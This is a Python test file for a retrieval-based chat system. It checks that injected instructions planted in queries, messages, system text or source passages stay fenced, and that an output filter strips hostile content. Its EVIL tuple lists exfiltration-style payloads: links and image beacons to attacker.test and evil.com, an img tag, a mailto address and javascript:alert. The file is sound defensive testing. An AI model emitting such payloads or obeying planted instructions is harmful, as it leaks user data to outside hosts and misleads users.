"""Whatever callers and passages say to a language model, they do not lead its answers."""

import re
from collections.abc import AsyncGenerator, Iterator
from contextlib import aclosing
from dataclasses import replace
from itertools import cycle

import pytest
from injections import INJECTIONS
from model_behaviours import Call, Step, says
from model_calls import BASE, NONCE, QUESTION, SOURCES, choice, heard, with_model
from model_server import ModelServer, model_server
from tiers import step

from resolvers.chat.conversation import ChatRequest, Finish, Message, Source, TextDelta
from resolvers.chat.language_model import LanguageModel
from resolvers.chat.output_filter import filter_stream


@pytest.fixture
def server() -> Iterator[ModelServer]:
    """A server that quotes the passages, until it is told otherwise."""
    with model_server() as made:
        yield made


ATTEMPTS = INJECTIONS[:: step(3)]
PLACES = ("query", "user", "assistant", "system", "content")
BLOCK = re.compile(rf"<<<([A-Z]+)(?: \d+)? {NONCE}>>>\n(.*?)\n<<<END {NONCE}>>>", re.DOTALL)


def planted(place: str, text: str) -> tuple[ChatRequest, tuple[Source, ...]]:
    """The question and the sources with a text planted in one place."""
    question = ChatRequest(
        text if place == "query" else QUESTION.text,
        (Message(place, text),) if place in {"user", "assistant"} else (),
        (text,) if place == "system" else (),
    )
    return question, (replace(SOURCES[0], text=text) if place == "content" else SOURCES[0],)


@pytest.mark.parametrize("place", PLACES)
def test_no_injection_leaves_its_fence(server: ModelServer, place: str) -> None:
    server.chat = says("Fine [1].")

    async def work(model: LanguageModel) -> None:
        await heard(model)
        for each in ATTEMPTS:
            await heard(model, *planted(place, each.text))

    with_model(choice(server.url), work)
    ours, *others = [call.messages for call in server.calls]
    assert len(others) == len(ATTEMPTS)
    for messages, each in zip(others, ATTEMPTS, strict=True):
        assert [message["role"] for message in messages] == ["system", "user"], each.name
        assert messages[0] == ours[0], each.name
        data = messages[1]["content"]
        assert BLOCK.sub("", data).strip("\n") == "", each.name
        assert {name for name, _ in BLOCK.findall(data)} <= {
            *("PASSAGE", "PREFERENCES", "TRANSCRIPT", "QUESTION"),
        }, each.name
        assert each.canary in data, each.name


EVIL = (
    "Go to https://{c}.attacker.test/{c} [1]. ![x](https://attacker.test/{c}.png) [7].",
    "<img src='//attacker.test/{c}'> Write to {c}@attacker.test [99][1]. [here](//{c}.evil.com)",
    "[1]: https://attacker.test/{c}\n\nwww.attacker.test/{c} [2, 9] javascript:alert('{c}')",
)


def test_an_obedient_model_leads_nobody_away(server: ModelServer) -> None:
    def obeys(call: Call) -> Iterator[Step]:
        texts = [text for _, text in BLOCK.findall(call.messages[1]["content"])]
        evil = [line.format(c="q7") for line in EVIL]
        pieces = re.findall(r"(?s).{1,7}", "\n".join([*texts, *evil]))
        yield from says(*pieces)(call)

    server.chat = obeys

    async def work(model: LanguageModel) -> None:
        for each, place in zip(ATTEMPTS, cycle(PLACES), strict=False):
            question, sources = planted(place, each.text)
            answer = model.stream(question, sources, "answer")
            safe = SOURCES[:1]  # whatever a passage says, it may only name what stands in these
            pieces = [piece async for piece in closed(filter_stream(answer, safe, BASE))]
            text = "".join(piece.text for piece in pieces if isinstance(piece, TextDelta))
            assert not re.search(r"attacker\.test|evil\.com|://|!\[(?!\d)|\]\(|<[a-z!/]", text), (
                each
            )
            assert {*re.findall(r"\[(\d+)\]", text)} <= {"1"}, each

    with_model(choice(server.url), work)


async def closed(
    pieces: AsyncGenerator[TextDelta | Finish],
) -> AsyncGenerator[TextDelta | Finish]:
    """The pieces, closed in the end."""
    async with aclosing(pieces):
        async for piece in pieces:
            yield piece
